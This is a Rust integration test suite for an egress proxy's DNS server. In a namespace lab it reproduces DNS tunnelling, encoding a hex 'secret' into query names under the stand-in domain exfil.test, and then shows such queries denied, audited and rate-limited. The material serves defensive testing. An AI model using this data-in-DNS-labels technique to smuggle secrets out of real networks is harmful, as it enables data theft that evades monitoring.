//! Root tier: DNS tunnelling, reproduced and then shown closed by the proxy's DNS server.
//!
//! The lab: an agent namespace with an intercepted cgroup; an "internet" namespace holding a
//! recursive resolver that logs every name it is asked (`10.77.0.1:53` and `[fd00:77::1]:53`,
//! the agents' configured resolver, also the proxy's own upstream) and nginx for `app.test`;
//! `paddock-proxy serve` (in process) with a static policy attaching the cgroup itself
//! through `[ebpf]`. Agents speak DNS with `pdk-client dns`, a plain stub query on an
//! unconnected UDP socket.

use std::{
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr},
    process::Command,
    time::Duration,
};

use paddock_tests::{
    CgroupGuard, PinDir, Topology,
    process::{Placement, client, run},
    proxied::{
        ADMIN, DnsResponder, Nginx, PROXY_PORT, ProxyProcess, make_upstream_certs, path_str,
        scratch,
    },
    require_root,
};

/// Where the agents' DNS is addressed (the resolver in the upstream namespace).
const RESOLVER_V4: &str = "10.77.0.1:53";
const RESOLVER_V6: &str = "[fd00:77::1]:53";

const POLICY: &str = r#"
[[rule]]
name = "test-host"
hosts = ["app.test"]
ports = [443]
"#;

struct DnsLab {
    proxy: Option<ProxyProcess>,
    resolvers: [DnsResponder; 2],
    _nginx: Nginx,
    pins: PinDir,
    cgroup: CgroupGuard,
    topo: Topology,
    dir: tempfile::TempDir,
}

impl DnsLab {
    /// The namespaces, the resolver and nginx; no proxy yet.
    fn new() -> Self {
        let dir = scratch();
        make_upstream_certs(dir.path(), &["app.test"]);
        std::fs::write(dir.path().join("policy.toml"), POLICY).expect("policy");
        let topo = Topology::new();
        let zone = vec![
            (
                "app.test".to_owned(),
                IpAddr::V4(Ipv4Addr::new(10, 77, 0, 1)),
            ),
            (
                "app.test".to_owned(),
                IpAddr::V6(Ipv6Addr::new(0xfd00, 0x77, 0, 0, 0, 0, 0, 1)),
            ),
        ];
        let resolvers = [
            DnsResponder::start(&topo.upstream, addr(RESOLVER_V4), zone.clone()),
            DnsResponder::start(&topo.upstream, addr(RESOLVER_V6), zone),
        ];
        let nginx = Nginx::start(&topo.upstream, dir.path(), addr("127.0.0.1:8090"));
        Self {
            proxy: None,
            resolvers,
            _nginx: nginx,
            pins: PinDir::new(),
            cgroup: CgroupGuard::new("dns"),
            topo,
            dir,
        }
    }

    /// (Re)starts `paddock-proxy serve` with `dns` as its `[dns]` table (empty: none, which
    /// is how agents' DNS worked before the DNS server). The eBPF pins survive a restart; the
    /// new proxy rewrites the cgroup's configuration.
    fn start_proxy(&mut self, dns: &str) {
        drop(self.proxy.take());
        let d = self.dir.path();
        let config = format!(
            r#"
run_id = "run-dns-test"
[listen]
transparent = ["127.0.0.1:{PROXY_PORT}", "[::1]:{PROXY_PORT}"]
[tls]
ca_dir = "{ca}"
generate_ca = true
upstream_ca_bundle = "{bundle}"
[policy]
file = "{policy}"
[network]
allow_cidrs = ["10.77.0.0/24", "fd00:77::/64"]
nameservers = ["{RESOLVER_V4}"]
[audit]
target = "{audit}"
[limits]
drain_timeout_secs = 1
[admin]
listen = "{ADMIN}"
[ebpf]
pin_dir = "{pins}"
agent_cgroups = ["{cgroup}"]
dns = ["{RESOLVER_V4}", "{RESOLVER_V6}"]
{dns}
"#,
            ca = path_str(d, "ca"),
            bundle = path_str(d, "test-ca.crt"),
            policy = path_str(d, "policy.toml"),
            audit = path_str(d, "audit.jsonl"),
            pins = self.pins.path().display(),
            cgroup = self.cgroup.cgroup().path().display(),
        );
        self.proxy = Some(ProxyProcess::start(
            &self.topo.agent,
            &config,
            None,
            SocketAddr::from(([127, 0, 0, 1], PROXY_PORT)),
        ));
    }

    fn agent(&self) -> Placement<'_> {
        Placement {
            netns: Some(&self.topo.agent),
            cgroup: Some(&self.cgroup),
            user: None,
        }
    }

    /// One stub query from inside the agent cgroup.
    fn query(&self, server: &str, name: &str, qtype: &str) -> serde_json::Value {
        tokio::task::block_in_place(|| client(&["dns", server, name, qtype], &self.agent()))
    }

    /// Every name the upstream resolvers were asked, by anyone.
    fn upstream_names(&self) -> Vec<String> {
        self.resolvers
            .iter()
            .flat_map(DnsResponder::names)
            .collect()
    }

    fn audit(&self, kind: &str) -> Vec<serde_json::Value> {
        std::fs::read_to_string(self.dir.path().join("audit.jsonl"))
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str::<serde_json::Value>(l).expect("audit line is JSON"))
            .filter(|e| e["kind"] == kind)
            .collect()
    }

    fn metric(&self, series: &str) -> u64 {
        let mut cmd = Command::new("curl");
        cmd.args(["-sS", "--max-time", "5"])
            .arg(format!("http://{ADMIN}/metrics"));
        let beside = Placement {
            netns: Some(&self.topo.agent),
            cgroup: None,
            user: None,
        };
        let out = tokio::task::block_in_place(|| run(&mut cmd, &beside));
        assert!(out.status.success(), "metrics: {out:?}");
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .find_map(|l| l.strip_prefix(series).map(str::trim))
            .and_then(|v| v.parse().ok())
            .unwrap_or_else(|| panic!("no series {series}"))
    }
}

fn addr(s: &str) -> SocketAddr {
    s.parse().expect("test address")
}

/// A label of data, as a tunnel client would encode it (hex of a "secret", under 63 bytes).
fn payload(tag: &str) -> String {
    let secret = format!("key-{tag}-{}", std::process::id());
    hex::encode(secret)
}

const DNS_TABLE: &str = r#"
[dns]
listen = ["127.0.0.1:15053", "[::1]:15053"]
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn dns_tunnel_through_the_resolver_is_closed_by_the_proxys_dns_server() {
    if !require_root("dns_tunnel_through_the_resolver_is_closed_by_the_proxys_dns_server") {
        return;
    }
    let mut lab = DnsLab::new();

    // The finding: with DNS allowed only to the resolver (no [dns]), the payload still
    // reaches it, and from there whoever serves exfil.test. `serve` now refuses that set-up
    // unless told `dns_unfiltered` (inside [ebpf], where `{dns}` lands).
    lab.start_proxy("dns_unfiltered = true");
    let leaked = format!("{}.exfil.test", payload("before"));
    let v = lab.query(RESOLVER_V4, &leaked, "A");
    assert_eq!(v["ok"], true, "{v}");
    assert_eq!(v["from"], RESOLVER_V4, "{v}");
    assert!(
        lab.upstream_names().contains(&leaked),
        "control: the resolver must receive the payload name: {:?}",
        lab.upstream_names()
    );

    // Closed: the agents' DNS to the same resolver now lands on the proxy's DNS server.
    lab.start_proxy(DNS_TABLE);
    let before = lab.upstream_names().len();
    let tunnel_v4 = format!("{}.exfil.test", payload("after-v4"));
    let tunnel_v6 = format!("{}.exfil.test", payload("after-v6"));
    let tunnel_txt = format!("{}.exfil.test", payload("after-txt"));
    for (server, name, qtype) in [
        (RESOLVER_V4, &tunnel_v4, "A"),
        (RESOLVER_V6, &tunnel_v6, "AAAA"),
        (RESOLVER_V4, &tunnel_txt, "TXT"),
    ] {
        let v = lab.query(server, name, qtype);
        assert_eq!(v["ok"], true, "{v}");
        assert_eq!(v["rcode"], "NXDOMAIN", "{name} {qtype}: {v}");
        // The stub sees the answer come from the resolver it asked (recvmsg restores it).
        assert_eq!(v["from"], server, "{v}");
        assert_eq!(v["id_matches"], true, "{v}");
    }
    let asked_since: Vec<String> = lab.upstream_names()[before..].to_vec();
    for name in [&tunnel_v4, &tunnel_v6, &tunnel_txt] {
        assert!(
            !asked_since.contains(name),
            "{name} left the proxy: {asked_since:?}"
        );
    }
    assert!(
        !asked_since.iter().any(|n| n.ends_with("exfil.test")),
        "{asked_since:?}"
    );
    let denied = lab.audit("dns_deny");
    for name in [&tunnel_v4, &tunnel_v6, &tunnel_txt] {
        assert!(
            denied.iter().any(|e| e["sni"] == name.as_str()
                && e["mode"] == "dns"
                && e["run"] == "run-dns-test"),
            "{name} not audited: {denied:?}"
        );
    }
    assert!(lab.metric("paddock_proxy_dns_queries_total{outcome=\"denied\"}") >= 3);

    // An allowed name resolves (through the proxy's own resolver) to the test host, and the
    // agent connects to what it was told, through the proxy.
    let v = lab.query(RESOLVER_V4, "app.test", "A");
    assert_eq!(v["rcode"], "NOERROR", "{v}");
    assert_eq!(v["answers"], serde_json::json!(["10.77.0.1"]), "{v}");
    let ttl = v["ttls"][0].as_u64().expect("ttl");
    assert!((1..=30).contains(&ttl), "{v}");
    let v6 = lab.query(RESOLVER_V6, "App.Test.", "AAAA");
    assert_eq!(v6["answers"], serde_json::json!(["fd00:77::1"]), "{v6}");
    assert!(lab.upstream_names()[before..].contains(&"app.test".to_owned()));
    let ip = v["answers"][0].as_str().expect("address").to_owned();
    let mut curl = Command::new("curl");
    curl.args(["-sS", "--max-time", "20", "--cacert"])
        .arg(path_str(lab.dir.path(), "ca/tls.crt"))
        .args(["--resolve", &format!("app.test:443:{ip}")])
        .arg("https://app.test/hello.txt");
    let out = tokio::task::block_in_place(|| run(&mut curl, &lab.agent()));
    assert!(out.status.success(), "curl: {out:?}");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "hello from the test host\n"
    );
    assert!(
        lab.audit("allow").iter().any(|e| e["sni"] == "app.test"),
        "the connection went through the proxy"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_dns_flood_is_refused_beyond_the_rate_and_the_audit_stays_bounded() {
    if !require_root("a_dns_flood_is_refused_beyond_the_rate_and_the_audit_stays_bounded") {
        return;
    }
    let mut lab = DnsLab::new();
    lab.start_proxy(&format!(
        "{DNS_TABLE}rate_per_second = 20\nrate_burst = 20\n"
    ));
    let flood = tokio::task::block_in_place(|| {
        client(
            &["dns-flood", RESOLVER_V4, "600", "exfil.test"],
            &lab.agent(),
        )
    });
    assert_eq!(flood["ok"], true, "{flood}");
    let code = |name: &str| flood["rcodes"][name].as_u64().unwrap_or(0);
    let (refused, nxdomain) = (code("REFUSED"), code("NXDOMAIN"));
    let received = flood["received"].as_u64().expect("received");
    assert_eq!(
        refused + nxdomain,
        received,
        "only these two answers: {flood}"
    );
    // Back to back, more datagrams arrive than the server's socket buffers: the kernel drops
    // the excess, which is fine, as long as a real flood got through to the server.
    assert!(received >= 150, "{flood}");
    // The burst, then the rate over the flood's duration (plus a second of slack).
    let elapsed = Duration::from_millis(flood["elapsed_ms"].as_u64().expect("elapsed"));
    let allowed = 20 + 20 * (elapsed.as_secs() + 1);
    assert!(
        (20..=allowed).contains(&nxdomain),
        "{nxdomain} answered, {allowed} allowed: {flood}"
    );
    assert!(refused >= received - allowed, "{flood}");

    // Wait for the last once-a-second summary.
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let rate_limited = lab.metric("paddock_proxy_dns_queries_total{outcome=\"rate_limited\"}");
    assert!(rate_limited >= refused, "{rate_limited} < {refused}");
    let summaries = lab.audit("dns_rate_limited");
    let seconds = elapsed.as_secs() + 3;
    assert!(
        !summaries.is_empty() && summaries.len() as u64 <= seconds,
        "{} summaries for a {elapsed:?} flood",
        summaries.len()
    );
    let summarised: u64 = summaries
        .iter()
        .map(|e| {
            let reason = e["reason"].as_str().expect("reason");
            reason
                .strip_prefix("refused ")
                .and_then(|r| r.split(' ').next())
                .and_then(|n| n.parse::<u64>().ok())
                .unwrap_or_else(|| panic!("unexpected summary {reason}"))
        })
        .sum();
    assert_eq!(summarised, rate_limited, "every refusal is in a summary");
    let denied = lab.audit("dns_deny").len() as u64;
    assert_eq!(denied, nxdomain, "one record per answered denial");
    assert!(
        denied + summaries.len() as u64 <= allowed + seconds,
        "the audit trail grows with the rate, not with the flood"
    );
    assert!(
        !lab.upstream_names()
            .iter()
            .any(|n| n.ends_with("exfil.test")),
        "nothing of the flood reached the resolver"
    );
}
